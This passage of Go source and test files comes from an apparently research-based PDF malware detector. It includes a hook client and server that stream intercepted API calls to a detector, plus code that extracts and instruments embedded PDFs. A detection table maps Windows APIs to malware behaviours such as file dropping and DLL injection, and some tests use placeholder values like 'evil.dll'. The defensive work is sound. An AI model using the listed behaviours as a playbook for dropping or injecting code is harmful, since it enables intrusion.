			t.Fatal("connection after transient Accept errors never registered: loop gave up")
		}
		time.Sleep(time.Millisecond)
	}
	select {
	case <-done:
		t.Fatal("acceptLoop returned on a transient error")
	default:
	}
	if got := reg.Snapshot().Counters[obs.MetricHookAcceptErrors]; got != 2 {
		t.Errorf("accept-error counter = %d, want 2", got)
	}

	// A closed listener is the one legitimate exit.
	close(ln.steps)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("acceptLoop did not exit on net.ErrClosed")
	}
}

// TestAcceptLoopExitsOnServerClose: a non-ErrClosed error after Close
// (some platforms surface custom errors from closed listeners) must also
// end the loop instead of spinning on a dead listener.
func TestAcceptLoopExitsOnServerClose(t *testing.T) {
	s := NewServer(func(ev Event) Decision { return Decision{Action: ActionAllow} })
	s.mu.Lock()
	s.closed = true
	s.mu.Unlock()

	ln := &fakeListener{steps: make(chan acceptStep, 1)}
	ln.steps <- acceptStep{err: errTransient}

	done := make(chan struct{})
	go func() {
		s.acceptLoop(ln)
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("acceptLoop kept retrying after the server was closed")
	}
}

// TestAcceptLoopBackoffResets: the capped-backoff constants must stay
// sane — min positive, max bounding the doubling.
func TestAcceptLoopBackoffResets(t *testing.T) {
	if acceptBackoffMin <= 0 || acceptBackoffMax < acceptBackoffMin {
		t.Fatalf("backoff bounds [%v, %v] inverted", acceptBackoffMin, acceptBackoffMax)
	}
	b := acceptBackoffMin
	for i := 0; i < 64; i++ {
		if b *= 2; b > acceptBackoffMax {
			b = acceptBackoffMax
		}
	}
	if b != acceptBackoffMax {
		t.Fatalf("doubling never reaches the cap: %v", b)
	}
}
