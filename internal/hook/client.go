package hook

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"sync"
	"time"
)

// Sink receives captured API calls and returns confinement decisions. The
// reader process talks to a Sink; TCPClient is the production
// implementation, and tests may use in-process fakes.
type Sink interface {
	// OnAPICall reports one call synchronously.
	OnAPICall(ev Event) (Decision, error)
	// Close releases the channel.
	Close() error
}

// DefaultIOTimeout bounds each send/receive exchange with the detector. The
// hook channel is synchronous — the reader process blocks on every decision —
// so a detector that accepts the connection but never answers would otherwise
// wedge the reader forever.
const DefaultIOTimeout = 5 * time.Second

// TCPClient streams events to the detector over a TCP connection, one JSON
// line per event, reading one JSON decision line back. This mirrors the
// hook DLL's socket in §III-E ("When the hook DLL is injected, its first
// job is to set up a TCP connection to the runtime detector").
type TCPClient struct {
	// IOTimeout bounds each write and each decision read. Zero means
	// DefaultIOTimeout; negative disables deadlines (tests that single-step
	// the detector use this).
	IOTimeout time.Duration

	mu   sync.Mutex
	conn net.Conn
	rd   *bufio.Reader
	seq  int64
}

var _ Sink = (*TCPClient)(nil)

// Dial connects to the detector's hook endpoint.
func Dial(addr string) (*TCPClient, error) {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, fmt.Errorf("hook dial %s: %w", addr, err)
	}
	return &TCPClient{conn: conn, rd: bufio.NewReader(conn)}, nil
}

// timeout returns the effective per-operation timeout (0 = disabled).
func (c *TCPClient) timeout() time.Duration {
	switch {
	case c.IOTimeout == 0:
		return DefaultIOTimeout
	case c.IOTimeout < 0:
		return 0
	default:
		return c.IOTimeout
	}
}

// deadline returns the absolute deadline for the next I/O operation, or the
// zero time when deadlines are disabled.
func (c *TCPClient) deadline() time.Time {
	d := c.timeout()
	if d == 0 {
		return time.Time{}
	}
	return time.Now().Add(d)
}

// OnAPICall implements Sink.
func (c *TCPClient) OnAPICall(ev Event) (Decision, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return Decision{}, fmt.Errorf("hook send: connection closed")
	}
	c.seq++
	ev.Seq = c.seq
	line, err := json.Marshal(ev)
	if err != nil {
		return Decision{}, fmt.Errorf("hook marshal: %w", err)
	}
	line = append(line, '\n')
	if err := c.conn.SetWriteDeadline(c.deadline()); err != nil {
		return Decision{}, fmt.Errorf("hook send: %w", err)
	}
	if _, err := c.conn.Write(line); err != nil {
		return Decision{}, fmt.Errorf("hook send: %w", err)
	}
	if err := c.conn.SetReadDeadline(c.deadline()); err != nil {
		return Decision{}, fmt.Errorf("hook recv: %w", err)
	}
	resp, err := c.rd.ReadBytes('\n')
	if err != nil {
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			return Decision{}, fmt.Errorf("hook recv: detector did not answer within %v: %w", c.timeout(), err)
		}
		return Decision{}, fmt.Errorf("hook recv: %w", err)
	}
	var dec Decision
	if err := json.Unmarshal(resp, &dec); err != nil {
		return Decision{}, fmt.Errorf("hook decode: %w", err)
	}
	return dec, nil
}

// Close implements Sink.
func (c *TCPClient) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return nil
	}
	err := c.conn.Close()
	c.conn = nil
	return err
}

// AllowAllSink is a Sink that approves everything and records nothing; it
// models an unprotected machine (baseline runs, Figure 8 measurements).
type AllowAllSink struct{}

var _ Sink = AllowAllSink{}

// OnAPICall implements Sink.
func (AllowAllSink) OnAPICall(Event) (Decision, error) { return Decision{Action: ActionAllow}, nil }

// Close implements Sink.
func (AllowAllSink) Close() error { return nil }

// RecordingSink captures events in memory and allows everything. Tests and
// context-free baselines use it.
type RecordingSink struct {
	mu     sync.Mutex
	events []Event
}

var _ Sink = (*RecordingSink)(nil)

// OnAPICall implements Sink.
func (s *RecordingSink) OnAPICall(ev Event) (Decision, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	ev.Seq = int64(len(s.events) + 1)
	s.events = append(s.events, ev)
	return Decision{Action: ActionAllow}, nil
}

// Close implements Sink.
func (s *RecordingSink) Close() error { return nil }

// Events returns a copy of captured events.
func (s *RecordingSink) Events() []Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Event(nil), s.events...)
}
