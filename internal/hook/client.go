package hook

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"sync"
	"time"
)

// Sink receives captured API calls and returns confinement decisions. The
// reader process talks to a Sink; TCPClient is the production
// implementation, and tests may use in-process fakes.
type Sink interface {
	// OnAPICall reports one call synchronously.
	OnAPICall(ev Event) (Decision, error)
	// Close releases the channel.
	Close() error
}

// TCPClient streams events to the detector over a TCP connection, one JSON
// line per event, reading one JSON decision line back. This mirrors the
// hook DLL's socket in §III-E ("When the hook DLL is injected, its first
// job is to set up a TCP connection to the runtime detector").
type TCPClient struct {
	mu   sync.Mutex
	conn net.Conn
	rd   *bufio.Reader
	seq  int64
}

var _ Sink = (*TCPClient)(nil)

// Dial connects to the detector's hook endpoint.
func Dial(addr string) (*TCPClient, error) {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, fmt.Errorf("hook dial %s: %w", addr, err)
	}
	return &TCPClient{conn: conn, rd: bufio.NewReader(conn)}, nil
}

// OnAPICall implements Sink.
func (c *TCPClient) OnAPICall(ev Event) (Decision, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.seq++
	ev.Seq = c.seq
	line, err := json.Marshal(ev)
	if err != nil {
		return Decision{}, fmt.Errorf("hook marshal: %w", err)
	}
	line = append(line, '\n')
	if _, err := c.conn.Write(line); err != nil {
		return Decision{}, fmt.Errorf("hook send: %w", err)
	}
	resp, err := c.rd.ReadBytes('\n')
	if err != nil {
		return Decision{}, fmt.Errorf("hook recv: %w", err)
	}
	var dec Decision
	if err := json.Unmarshal(resp, &dec); err != nil {
		return Decision{}, fmt.Errorf("hook decode: %w", err)
	}
	return dec, nil
}

// Close implements Sink.
func (c *TCPClient) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return nil
	}
	err := c.conn.Close()
	c.conn = nil
	return err
}

// AllowAllSink is a Sink that approves everything and records nothing; it
// models an unprotected machine (baseline runs, Figure 8 measurements).
type AllowAllSink struct{}

var _ Sink = AllowAllSink{}

// OnAPICall implements Sink.
func (AllowAllSink) OnAPICall(Event) (Decision, error) { return Decision{Action: ActionAllow}, nil }

// Close implements Sink.
func (AllowAllSink) Close() error { return nil }

// RecordingSink captures events in memory and allows everything. Tests and
// context-free baselines use it.
type RecordingSink struct {
	mu     sync.Mutex
	events []Event
}

var _ Sink = (*RecordingSink)(nil)

// OnAPICall implements Sink.
func (s *RecordingSink) OnAPICall(ev Event) (Decision, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	ev.Seq = int64(len(s.events) + 1)
	s.events = append(s.events, ev)
	return Decision{Action: ActionAllow}, nil
}

// Close implements Sink.
func (s *RecordingSink) Close() error { return nil }

// Events returns a copy of captured events.
func (s *RecordingSink) Events() []Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Event(nil), s.events...)
}
