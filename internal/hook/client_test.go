package hook

import (
	"net"
	"strings"
	"testing"
	"time"
)

// silentServer accepts hook connections and never answers — the shape of a
// wedged or malicious detector endpoint. Returns the address to dial.
func silentServer(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			// Hold the connection open, read nothing, say nothing.
			defer conn.Close()
		}
	}()
	return ln.Addr().String()
}

// TestOnAPICallTimesOutOnSilentDetector proves the hook channel cannot wedge
// the reader process: a detector that accepts the connection but never sends
// a decision surfaces as a timeout error instead of blocking forever.
func TestOnAPICallTimesOutOnSilentDetector(t *testing.T) {
	c, err := Dial(silentServer(t))
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer c.Close()
	c.IOTimeout = 200 * time.Millisecond

	start := time.Now()
	_, err = c.OnAPICall(Event{API: "CreateFileW"})
	elapsed := time.Since(start)

	if err == nil {
		t.Fatal("OnAPICall returned without error against a silent detector")
	}
	if ne, ok := err.(interface{ Unwrap() error }); !ok {
		t.Fatalf("error %v does not wrap the net error", err)
	} else if nerr, ok := ne.Unwrap().(net.Error); !ok || !nerr.Timeout() {
		t.Fatalf("wrapped error %v is not a net timeout", ne.Unwrap())
	}
	if !strings.Contains(err.Error(), "did not answer") {
		t.Errorf("error %q lacks the hook-channel timeout description", err)
	}
	if elapsed > 5*time.Second {
		t.Fatalf("timeout took %v; deadline not honoured", elapsed)
	}
}

// TestOnAPICallAfterCloseFails ensures a closed client reports a clean error
// rather than dereferencing a nil connection.
func TestOnAPICallAfterCloseFails(t *testing.T) {
	c, err := Dial(silentServer(t))
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	if err := c.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if _, err := c.OnAPICall(Event{API: "CreateFileW"}); err == nil {
		t.Fatal("OnAPICall on closed client succeeded")
	}
}

// TestDefaultTimeoutApplied checks the zero-value client picks up the
// package default rather than running without deadlines.
func TestDefaultTimeoutApplied(t *testing.T) {
	c := &TCPClient{}
	if got := c.timeout(); got != DefaultIOTimeout {
		t.Fatalf("zero-value timeout = %v, want %v", got, DefaultIOTimeout)
	}
	c.IOTimeout = -1
	if got := c.timeout(); got != 0 {
		t.Fatalf("negative IOTimeout = %v, want disabled (0)", got)
	}
}
