package hook

import (
	"sync"
	"testing"
)

func TestClassify(t *testing.T) {
	tests := []struct {
		api  string
		want Behavior
	}{
		{"NtCreateFile", BehaviorMalwareDropping},
		{"URLDownloadToFileA", BehaviorMalwareDropping},
		{"connect", BehaviorNetworkAccess},
		{"listen", BehaviorNetworkAccess},
		{"IsBadReadPtr", BehaviorMappedMemorySearch},
		{"NtAddAtom", BehaviorMappedMemorySearch},
		{"NtCreateProcess", BehaviorProcessCreation},
		{"NtCreateUserProcess", BehaviorProcessCreation},
		{"CreateRemoteThread", BehaviorDLLInjection},
		{"ctx.mem", BehaviorMemorySample},
		{"GetSystemTime", BehaviorUnknown},
	}
	for _, tt := range tests {
		if got := Classify(tt.api); got != tt.want {
			t.Errorf("Classify(%q) = %q, want %q", tt.api, got, tt.want)
		}
	}
	if len(MonitoredAPIs()) < 10 {
		t.Errorf("monitored API set too small: %d", len(MonitoredAPIs()))
	}
}

func TestTCPClientServerRoundTrip(t *testing.T) {
	var mu sync.Mutex
	var got []Event
	srv := NewServer(func(ev Event) Decision {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, ev)
		if ev.Behavior() == BehaviorDLLInjection {
			return Decision{Action: ActionReject, Note: "always reject"}
		}
		if ev.Behavior() == BehaviorProcessCreation {
			return Decision{Action: ActionSandbox}
		}
		return Decision{Action: ActionAllow}
	})
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()

	client, err := Dial(srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = client.Close() }()

	dec, err := client.OnAPICall(Event{PID: 1, API: "NtCreateFile", Args: []string{`C:\tmp\mal.exe`}, MemMB: 50})
	if err != nil {
		t.Fatal(err)
	}
	if dec.Action != ActionAllow {
		t.Errorf("drop decision = %q", dec.Action)
	}
	dec, err = client.OnAPICall(Event{PID: 1, API: "CreateRemoteThread", Args: []string{"evil.dll"}})
	if err != nil {
		t.Fatal(err)
	}
	if dec.Action != ActionReject {
		t.Errorf("inject decision = %q", dec.Action)
	}
	dec, err = client.OnAPICall(Event{PID: 1, API: "NtCreateProcess", Args: []string{`C:\tmp\mal.exe`}})
	if err != nil {
		t.Fatal(err)
	}
	if dec.Action != ActionSandbox {
		t.Errorf("proc decision = %q", dec.Action)
	}

	mu.Lock()
	defer mu.Unlock()
	if len(got) != 3 {
		t.Fatalf("server saw %d events", len(got))
	}
	if got[0].Seq != 1 || got[1].Seq != 2 || got[2].Seq != 3 {
		t.Errorf("sequence numbers wrong: %+v", got)
	}
	if got[0].Arg(0) != `C:\tmp\mal.exe` {
		t.Errorf("arg lost: %+v", got[0])
	}
}

func TestRecordingSink(t *testing.T) {
	s := &RecordingSink{}
	for i := 0; i < 3; i++ {
		dec, err := s.OnAPICall(Event{API: "connect"})
		if err != nil || dec.Action != ActionAllow {
			t.Fatalf("decision = %+v err=%v", dec, err)
		}
	}
	if len(s.Events()) != 3 {
		t.Errorf("events = %d", len(s.Events()))
	}
}

func TestDialFailure(t *testing.T) {
	if _, err := Dial("127.0.0.1:1"); err == nil {
		t.Error("expected dial failure")
	}
}

func TestEventArgHelper(t *testing.T) {
	ev := Event{Args: []string{"a"}}
	if ev.Arg(0) != "a" || ev.Arg(1) != "" {
		t.Error("Arg helper broken")
	}
}
