// Package hook implements the API-interception layer between the simulated
// PDF reader process and the runtime detector: the stand-in for the paper's
// IAT-hook DLL. Captured API calls (name, arguments, current memory usage)
// stream to the detector over a TCP socket, and the detector's confinement
// decision comes back synchronously — exactly the channel §III-E describes.
package hook

import "fmt"

// Behavior classifies a hooked API per Table II of the paper.
type Behavior string

// Behaviors (Table II order; MemorySample is the PROCESS_MEMORY_COUNTERS_EX
// reading the hook attaches at JS context boundaries).
const (
	BehaviorMalwareDropping    Behavior = "malware-dropping"
	BehaviorMemorySample       Behavior = "memory-sample"
	BehaviorNetworkAccess      Behavior = "network-access"
	BehaviorMappedMemorySearch Behavior = "mapped-memory-search"
	BehaviorProcessCreation    Behavior = "process-creation"
	BehaviorDLLInjection       Behavior = "dll-injection"
	BehaviorUnknown            Behavior = "unknown"
)

// apiBehavior maps hooked API names (§III-D) to behaviors.
var apiBehavior = map[string]Behavior{
	// Malware dropping.
	"NtCreateFile":            BehaviorMalwareDropping,
	"URLDownloadToFileA":      BehaviorMalwareDropping,
	"URLDownloadToFileW":      BehaviorMalwareDropping,
	"URLDownloadToCacheFileA": BehaviorMalwareDropping,
	"URLDownloadToCacheFileW": BehaviorMalwareDropping,
	// Network access.
	"connect": BehaviorNetworkAccess,
	"listen":  BehaviorNetworkAccess,
	// Mapped memory search (egg-hunt syscalls).
	"NtAccessCheckAndAuditAlarm": BehaviorMappedMemorySearch,
	"IsBadReadPtr":               BehaviorMappedMemorySearch,
	"NtDisplayString":            BehaviorMappedMemorySearch,
	"NtAddAtom":                  BehaviorMappedMemorySearch,
	// Process creation.
	"NtCreateProcess":     BehaviorProcessCreation,
	"NtCreateProcessEx":   BehaviorProcessCreation,
	"NtCreateUserProcess": BehaviorProcessCreation,
	// DLL injection.
	"CreateRemoteThread": BehaviorDLLInjection,
	// Synthetic memory reading at JS context boundaries.
	"ctx.mem": BehaviorMemorySample,
}

// Classify maps an API name to its behavior class.
func Classify(api string) Behavior {
	if b, ok := apiBehavior[api]; ok {
		return b
	}
	return BehaviorUnknown
}

// MonitoredAPIs returns the hooked API set (for docs/tests).
func MonitoredAPIs() []string {
	out := make([]string, 0, len(apiBehavior))
	for name := range apiBehavior {
		out = append(out, name)
	}
	return out
}

// Event is one captured API call.
type Event struct {
	// PID is the reader process id.
	PID int `json:"pid"`
	// API is the hooked function name.
	API string `json:"api"`
	// Args are stringified call arguments (paths, hosts, targets).
	Args []string `json:"args,omitempty"`
	// MemMB is the process's PROCESS_MEMORY_COUNTERS_EX PrivateUsage at
	// call time, in MB.
	MemMB float64 `json:"mem_mb"`
	// Seq is a per-connection monotonic sequence number.
	Seq int64 `json:"seq"`
}

// Behavior classifies the event.
func (e Event) Behavior() Behavior { return Classify(e.API) }

// Arg returns the i-th argument or "".
func (e Event) Arg(i int) string {
	if i < len(e.Args) {
		return e.Args[i]
	}
	return ""
}

func (e Event) String() string {
	return fmt.Sprintf("%s(%v) mem=%.1fMB", e.API, e.Args, e.MemMB)
}

// Action is the confinement verdict for one call.
type Action string

// Actions per Table III.
const (
	// ActionAllow lets the original API proceed.
	ActionAllow Action = "allow"
	// ActionReject blocks the call in the hook DLL.
	ActionReject Action = "reject"
	// ActionSandbox blocks the original call; the detector runs the target
	// program inside the sandbox instead.
	ActionSandbox Action = "sandbox"
)

// Decision is the detector's reply to an event.
type Decision struct {
	Action Action `json:"action"`
	// Note is a human-readable rationale for logs.
	Note string `json:"note,omitempty"`
}
