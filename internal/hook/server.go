package hook

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"pdfshield/internal/obs"
)

// Handler decides one event. It runs on the detector side.
type Handler func(ev Event) Decision

// Accept-retry backoff bounds: a transient Accept failure (EMFILE under
// load, ECONNABORTED) is retried after acceptBackoffMin, doubling up to
// acceptBackoffMax, instead of silently abandoning the listener.
const (
	acceptBackoffMin = time.Millisecond
	acceptBackoffMax = time.Second
)

// Server is the detector-side TCP endpoint receiving hook events.
type Server struct {
	handler Handler

	// Obs, when set before Start, counts accept-loop errors
	// (obs.MetricHookAcceptErrors). Nil-safe.
	Obs *obs.Registry

	mu       sync.Mutex
	listener net.Listener
	addr     string
	closed   bool
	conns    map[net.Conn]bool
}

// NewServer returns an unstarted server.
func NewServer(handler Handler) *Server {
	return &Server{handler: handler, conns: make(map[net.Conn]bool)}
}

// Start binds a loopback port and accepts connections until Close.
func (s *Server) Start() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.listener != nil {
		return errors.New("hook server already started")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("hook server listen: %w", err)
	}
	s.listener = ln
	s.addr = ln.Addr().String()
	go s.acceptLoop(ln)
	return nil
}

// Addr returns the bound "127.0.0.1:port".
func (s *Server) Addr() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.addr
}

// Close stops accepting and drops live connections.
func (s *Server) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.listener == nil {
		return nil
	}
	s.closed = true
	err := s.listener.Close()
	for conn := range s.conns {
		_ = conn.Close()
	}
	s.listener = nil
	return err
}

// acceptLoop accepts until the listener is closed. A transient Accept
// error — file-descriptor exhaustion under load, an aborted handshake —
// must not end the loop: the listener stays bound, so giving up would
// leave every future reader process unable to deliver hook events while
// the detector looks healthy. Transient failures are counted and retried
// with capped exponential backoff; only a closed listener (or Close) exits.
func (s *Server) acceptLoop(ln net.Listener) {
	backoff := acceptBackoffMin
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return
			}
			s.mu.Lock()
			closed := s.closed
			s.mu.Unlock()
			if closed {
				return
			}
			s.Obs.Inc(obs.MetricHookAcceptErrors)
			time.Sleep(backoff)
			if backoff *= 2; backoff > acceptBackoffMax {
				backoff = acceptBackoffMax
			}
			continue
		}
		backoff = acceptBackoffMin
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			_ = conn.Close()
			return
		}
		s.conns[conn] = true
		s.mu.Unlock()
		go s.serveConn(conn)
	}
}

func (s *Server) serveConn(conn net.Conn) {
	defer func() {
		s.mu.Lock()
		delete(s.conns, conn)
		s.mu.Unlock()
		_ = conn.Close()
	}()
	rd := bufio.NewReader(conn)
	wr := bufio.NewWriter(conn)
	for {
		line, err := rd.ReadBytes('\n')
		if err != nil {
			return
		}
		var ev Event
		dec := Decision{Action: ActionReject, Note: "malformed event"}
		if err := json.Unmarshal(line, &ev); err == nil {
			dec = s.handler(ev)
		}
		out, err := json.Marshal(dec)
		if err != nil {
			return
		}
		out = append(out, '\n')
		if _, err := wr.Write(out); err != nil {
			return
		}
		if err := wr.Flush(); err != nil {
			return
		}
	}
}
