package instrument

import (
	"bytes"
	"errors"
	"fmt"

	"pdfshield/internal/pdf"
)

// Embedded-document handling implements the §VI extension the paper lists
// as future work: "we will extract static features from both embedded and
// host PDFs. It would be also valuable to instrument embedded documents" —
// closing the embedded-PDF mimicry hole of [8].

// EmbeddedPDF is a PDF payload found inside an /EmbeddedFile stream.
type EmbeddedPDF struct {
	// StreamNum is the host object carrying the file.
	StreamNum int
	// Raw is the decoded embedded document.
	Raw []byte
}

// maxEmbeddedDepth bounds recursive embedding.
const maxEmbeddedDepth = 2

// ExtractEmbeddedPDFs finds embedded PDF documents in a parsed host.
func ExtractEmbeddedPDFs(doc *pdf.Document) []EmbeddedPDF {
	var out []EmbeddedPDF
	for _, num := range doc.Numbers() {
		obj, _ := doc.Get(num)
		stream, ok := obj.Object.(*pdf.Stream)
		if !ok {
			continue
		}
		if t, _ := stream.Dict.Get("Type").(pdf.Name); t != "EmbeddedFile" {
			continue
		}
		data, _, err := pdf.DecodeChain(stream)
		if err != nil {
			continue
		}
		window := data
		if len(window) > 1024 {
			window = window[:1024]
		}
		if !bytes.Contains(window, []byte("%PDF-")) {
			continue
		}
		out = append(out, EmbeddedPDF{StreamNum: num, Raw: data})
	}
	return out
}

// MergeFeatures combines host and embedded static features: binary
// features OR together, counts and the ratio take the maximum — a hidden
// obfuscated payload cannot launder its features through a clean host.
func MergeFeatures(host StaticFeatures, embedded ...StaticFeatures) StaticFeatures {
	out := host
	for _, e := range embedded {
		if e.Ratio > out.Ratio {
			out.Ratio = e.Ratio
		}
		out.HeaderObfuscated = out.HeaderObfuscated || e.HeaderObfuscated
		out.HexCodeCount += e.HexCodeCount
		out.EmptyObjects += e.EmptyObjects
		if e.EncodingLevels > out.EncodingLevels {
			out.EncodingLevels = e.EncodingLevels
		}
		out.HasJavaScript = out.HasJavaScript || e.HasJavaScript
	}
	return out
}

// AnalyzeDeep extracts static features from the host document and every
// embedded PDF, returning the merged view plus per-embedded features.
func AnalyzeDeep(raw []byte) (merged StaticFeatures, embedded []StaticFeatures, err error) {
	host, _, doc, err := Analyze(raw)
	if err != nil {
		return StaticFeatures{}, nil, err
	}
	merged, embedded = AnalyzeDeepDoc(doc, host)
	return merged, embedded, nil
}

// AnalyzeDeepDoc is AnalyzeDeep for a host document that is already parsed
// and analyzed: callers that ran Analyze keep its *pdf.Document and host
// features instead of re-parsing the same bytes. Embedded payloads are
// parsed individually (their bytes are distinct from the host's).
func AnalyzeDeepDoc(doc *pdf.Document, host StaticFeatures) (merged StaticFeatures, embedded []StaticFeatures) {
	for _, emb := range ExtractEmbeddedPDFs(doc) {
		ef, _, _, err := Analyze(emb.Raw)
		if err != nil {
			continue // undecodable embedded payload: host features stand
		}
		embedded = append(embedded, ef)
	}
	return MergeFeatures(host, embedded...), embedded
}

// EmbeddedDocID names an embedded document for registry and alerts.
func EmbeddedDocID(hostID string, index int) string {
	return fmt.Sprintf("%s::embedded-%d", hostID, index)
}

// instrumentEmbedded recursively instruments embedded PDFs inside doc,
// replacing each /EmbeddedFile stream with the instrumented bytes. Returns
// the per-embedded instrumentation results.
func (ins *Instrumenter) instrumentEmbedded(hostID string, doc *pdf.Document, depth int) ([]*Result, error) {
	if depth >= maxEmbeddedDepth {
		return nil, nil
	}
	var results []*Result
	for i, emb := range ExtractEmbeddedPDFs(doc) {
		id := EmbeddedDocID(hostID, i)
		res, err := ins.instrumentBytesDepth(id, emb.Raw, "", depth+1)
		if err != nil {
			if errors.Is(err, ErrNoJavaScript) {
				continue // scriptless attachment: leave as-is
			}
			if errors.Is(err, ErrDuplicate) {
				continue // already instrumented elsewhere
			}
			return nil, fmt.Errorf("embedded %s: %w", id, err)
		}
		obj, _ := doc.Get(emb.StreamNum)
		stream, ok := obj.Object.(*pdf.Stream)
		if !ok {
			continue
		}
		rawOut, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, res.Output)
		if err != nil {
			return nil, err
		}
		newDict := stream.Dict.Clone()
		newDict["Filter"] = filterObj
		doc.Put(pdf.IndirectObject{Num: emb.StreamNum, Gen: obj.Gen, Object: &pdf.Stream{Dict: newDict, Raw: rawOut}})
		results = append(results, res)
	}
	return results, nil
}
