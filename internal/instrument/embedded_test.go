package instrument

import (
	"errors"
	"testing"

	"pdfshield/internal/pdf"
)

// buildHostWithEmbedded wraps innerRaw as an /EmbeddedFile attachment in a
// scriptless host.
func buildHostWithEmbedded(t *testing.T, innerRaw []byte) []byte {
	t.Helper()
	d := pdf.NewDocument()
	raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, innerRaw)
	if err != nil {
		t.Fatal(err)
	}
	d.Add(&pdf.Stream{Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile"), "Filter": filterObj}, Raw: raw})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}})
	d.Trailer["Root"] = d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages})
	out, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// buildInnerJSDoc builds a small JS-bearing document.
func buildInnerJSDoc(t *testing.T, script string) []byte {
	t.Helper()
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	d.Trailer["Root"] = d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	raw, err := pdf.Write(d, pdf.WriteOptions{HeaderJunk: []byte("junk!")})
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestExtractEmbeddedPDFs(t *testing.T) {
	inner := buildInnerJSDoc(t, "1;")
	host := buildHostWithEmbedded(t, inner)
	doc, err := pdf.Parse(host, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	found := ExtractEmbeddedPDFs(doc)
	if len(found) != 1 {
		t.Fatalf("embedded found = %d", len(found))
	}
	if string(found[0].Raw[:20]) != string(inner[:20]) {
		t.Error("embedded bytes corrupted")
	}
	// Non-PDF attachments are ignored.
	doc2 := pdf.NewDocument()
	doc2.Add(&pdf.Stream{Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile")}, Raw: []byte("plain text attachment")})
	doc2.Trailer["Root"] = doc2.Add(pdf.Dict{"Type": pdf.Name("Catalog")})
	if got := ExtractEmbeddedPDFs(doc2); len(got) != 0 {
		t.Errorf("non-PDF attachment extracted: %d", len(got))
	}
}

func TestAnalyzeDeepMergesEmbeddedFeatures(t *testing.T) {
	inner := buildInnerJSDoc(t, "spray();") // obfuscated header, JS, high ratio
	host := buildHostWithEmbedded(t, inner)

	hostOnly, _, _, err := Analyze(host)
	if err != nil {
		t.Fatal(err)
	}
	if hostOnly.HasJavaScript || hostOnly.HeaderObfuscated {
		t.Fatalf("host-only analysis should be clean: %s", hostOnly)
	}

	merged, embedded, err := AnalyzeDeep(host)
	if err != nil {
		t.Fatal(err)
	}
	if len(embedded) != 1 {
		t.Fatalf("embedded features = %d", len(embedded))
	}
	if !merged.HasJavaScript {
		t.Error("merged analysis lost embedded JS")
	}
	if !merged.HeaderObfuscated {
		t.Error("merged analysis lost embedded header obfuscation")
	}
	if merged.Ratio < 0.5 {
		t.Errorf("merged ratio = %v", merged.Ratio)
	}
}

func TestInstrumentEmbeddedPDF(t *testing.T) {
	inner := buildInnerJSDoc(t, "attachmentRan = 5;")
	host := buildHostWithEmbedded(t, inner)

	reg := NewRegistry("embdetector0001")
	ins := New(reg, Options{Seed: 31})
	res, err := ins.InstrumentBytes("host.pdf", host)
	if err != nil {
		t.Fatalf("host with JS-bearing attachment must not be out of scope: %v", err)
	}
	if len(res.Embedded) != 1 {
		t.Fatalf("embedded results = %d", len(res.Embedded))
	}
	emb := res.Embedded[0]
	if emb.DocID != EmbeddedDocID("host.pdf", 0) {
		t.Errorf("embedded doc id = %q", emb.DocID)
	}
	if emb.ScriptsInstrumented != 1 {
		t.Errorf("embedded scripts = %d", emb.ScriptsInstrumented)
	}
	// Registry knows the embedded document under its own key.
	if _, ok := reg.LookupKey(emb.Key.InstrKey); !ok {
		t.Error("embedded key not registered")
	}
	// The emitted host carries the INSTRUMENTED attachment.
	outDoc, err := pdf.Parse(res.Output, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	extracted := ExtractEmbeddedPDFs(outDoc)
